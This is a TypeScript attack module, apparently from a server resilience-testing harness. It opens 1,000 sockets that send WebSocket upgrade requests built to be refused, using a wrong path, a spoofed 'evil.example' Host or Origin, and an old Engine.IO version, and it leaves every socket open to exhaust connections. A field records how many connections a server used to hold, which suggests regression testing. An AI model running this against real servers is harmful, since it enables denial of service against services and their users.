// Upgrades that are refused, by browsers that never close their side.
import type { Attack, Target } from "./attack";
import { openLines } from "./lines";

const lines = 1_000;

export const upgradesRefused: Attack = {
  name: "upgrades-refused",
  what: `${lines} upgrades that are refused, each side left open`,
  before: "about 500 of 1,000 connections held for good, and some 100 more at any time on their way back",
  async begin(target: Target) {
    const host = new URL(target.url).host;
    const opening = ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13"];
    const kinds = [
      ["GET /elsewhere HTTP/1.1", `Host: ${host}`],
      ["GET /live/?EIO=4&transport=websocket HTTP/1.1", "Host: evil.example"],
      ["GET /live/?EIO=4&transport=websocket HTTP/1.1", `Host: ${host}`, "Origin: https://evil.example"],
      ["GET /live/?EIO=3&transport=websocket HTTP/1.1", `Host: ${host}`, `Origin: ${target.url}`],
    ].map((head) => [...head, ...opening, "\r\n"].join("\r\n"));
    const open = openLines(target, {
      count: lines,
      everyMs: 1_000,
      harm: (socket, index) => void socket.write(kinds[index % kinds.length] ?? ""),
    });
    return { stop: async () => open.stop("400") };
  },
};
